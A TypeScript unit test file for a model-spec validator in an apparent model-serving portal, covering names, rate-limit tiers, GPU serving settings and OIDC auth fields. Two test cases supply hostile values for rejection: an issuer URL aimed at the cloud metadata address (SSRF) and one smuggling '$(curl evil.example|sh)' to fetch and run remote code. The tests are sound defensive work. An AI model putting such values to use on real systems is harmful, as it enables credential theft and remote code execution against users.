import { RateLimit } from '@maas-portal/plugin-maas-common';
import { validateModelSpec, ModelInput } from './validateModelSpec';
import {
  modelInput,
  simulatorServing,
  testDefaults,
  gpuServing,
  oidcAuth,
} from '../__testUtils__/modelInputs';

const tier = (name: string, requests = { limit: 5, window: '2m' }) => ({
  name,
  requests,
  tokens: { limit: 1000, window: '1m' },
});

type Overrides = Partial<ModelInput>;
const tiers = (...names: string[]): Overrides => ({
  tiers: names.map(n => tier(n)),
});
const free = (requests: Partial<RateLimit>): Overrides => ({
  tiers: [tier('free', { limit: 5, window: '2m', ...requests })],
});
const vllm = (serving: Partial<ModelInput['serving']>): Overrides => ({
  serving: { ...gpuServing, ...serving },
});
const simulator = (serving: Partial<ModelInput['serving']>): Overrides => ({
  serving: { ...simulatorServing, ...serving },
});
const oidc = (auth: Partial<ModelInput['auth']>): Overrides => ({
  auth: { ...oidcAuth, ...auth },
});

function problemsOf(input: ModelInput) {
  return validateModelSpec(input, testDefaults).problems ?? [];
}

describe('validateModelSpec', () => {
  it('accepts a valid input and applies the config defaults', () => {
    const { spec } = validateModelSpec(
      modelInput({ namespace: '', hostname: '' }),
      testDefaults,
    );
    expect(spec).toMatchObject({
      name: 'qwen3',
      namespace: 'llm',
      hostname: 'qwen3.maas.local',
      gateway: { name: 'inference-gateway', namespace: 'llm' },
      tiers: testDefaults.tiers,
      serving: { type: 'vllm', image: 'vllm/vllm-openai:latest', gpus: 1 },
    });
  });

  it('takes a subset of the configured tiers with other limits', () => {
    const { spec } = validateModelSpec(
      modelInput({ tiers: [tier('premium', { limit: 7, window: '1h30m' })] }),
      testDefaults,
    );
    expect(spec?.tiers).toEqual([
      tier('premium', { limit: 7, window: '1h30m' }),
    ]);
  });

  it.each([
    ['an upper-case name', { name: 'Qwen3' }, 'name'],
    ['a name with an underscore', { name: 'qwen_3' }, 'name'],
    ['a name starting with a digit', { name: '3qwen' }, 'name'],
    [
      'a name too long for the derived names',
      { name: `m${'a'.repeat(50)}` },
      'name',
    ],
    ['an empty name', { name: '' }, 'name'],
    ['a bad namespace', { namespace: 'LLM' }, 'namespace'],
    ['a bad host name', { hostname: 'qwen 3.maas.local' }, 'hostname'],
    ['a bad gateway', { gateway: { name: 'Inference' } }, 'gateway.name'],
    ['a missing owner', { owner: '' }, 'owner'],
    ['a limit of 0', free({ limit: 0 }), 'tiers[0].requests.limit'],
    ['a negative limit', free({ limit: -5 }), 'tiers[0].requests.limit'],
    ['a window of 1d', free({ window: '1d' }), 'tiers[0].requests.window'],
    ['a duplicate tier', tiers('free', 'free'), 'tiers[1].name'],
    ['an unknown tier', tiers('free', 'gold'), 'tiers[1].name'],
    ['a GPU count on a simulator', simulator({ gpus: 1 }), 'serving.gpus'],
    ['0 GPUs for vLLM', vllm({ gpus: 0 }), 'serving.gpus'],
    [
      'a model source that is no URI',
      vllm({ storageUri: 'Qwen/Qwen3' }),
      'serving.storageUri',
    ],
    ['a bad memory', vllm({ memory: '16 GB' }), 'serving.memory'],
    [
      'a negative latency',
      simulator({ interTokenLatencyMs: -1 }),
      'serving.interTokenLatencyMs',
    ],
    ['OIDC without issuer', { auth: { type: 'oidc' } }, 'auth.issuerUrl'],
    [
      'M2: an OIDC issuer over plain http to another host (Authorino would fetch it: SSRF)',
      oidc({ issuerUrl: 'http://169.254.169.254/latest/meta-data' }),
      'auth.issuerUrl',
    ],
    [
      "M2: an OIDC issuer with shell characters (pasted into every user's token script)",
      oidc({ issuerUrl: 'https://sso.example.com/$(curl evil.example|sh)' }),
      'auth.issuerUrl',
    ],
    [
      'OIDC with a bad claim',
      oidc({ tierClaim: 'tier.name' }),
      'auth.tierClaim',
    ],
    [
      'OIDC with a bad user id claim',
      oidc({ userIdClaim: 'a b' }),
      'auth.userIdClaim',
    ],
  ] as [string, Partial<ModelInput>, string][])(
    'rejects %s, naming the field',
    (_, overrides, field) => {
      const problems = problemsOf(modelInput(overrides));
      expect(problems.map(p => p.path)).toEqual([field]);
      expect(problems[0].message).not.toBe('');
    },
  );

  it('M2: says why an issuer URL is refused and what one looks like', () => {
    expect(
      problemsOf(modelInput(oidc({ issuerUrl: 'http://sso.example.com' }))),
    ).toEqual([
      {
        path: 'auth.issuerUrl',
        message:
          '"http://sso.example.com" uses http; an issuer URL uses https (http only on 127.0.0.1 or localhost, for a test bed)',
      },
    ]);
    expect(
      problemsOf(
        modelInput(oidc({ issuerUrl: 'https://sso.example.com/realms/maas' })),
      ),
    ).toEqual([]);
  });

  it('explains the window', () => {
    const [problem] = problemsOf(
      modelInput({ tiers: [tier('free', { limit: 5, window: '1d' })] }),
    );
    expect(problem.message).toMatch(/h, m, s or ms/);
  });

  it('explains the unknown tier with the known ones', () => {
    const [problem] = problemsOf(modelInput({ tiers: [tier('gold')] }));
    expect(problem.message).toBe(
      'tier "gold" is not one of the portal\'s tiers (free, premium, enterprise)',
    );
  });

  it('reports every problem at once', () => {
    const problems = problemsOf(
      modelInput({
        name: 'Bad',
        serving: { ...simulatorServing, gpus: 2 },
        tiers: [tier('free', { limit: 0, window: '1d' })],
      }),
    );
    expect(problems.map(p => p.path)).toEqual([
      'name',
      'serving.gpus',
      'tiers[0].requests.limit',
      'tiers[0].requests.window',
    ]);
  });
});
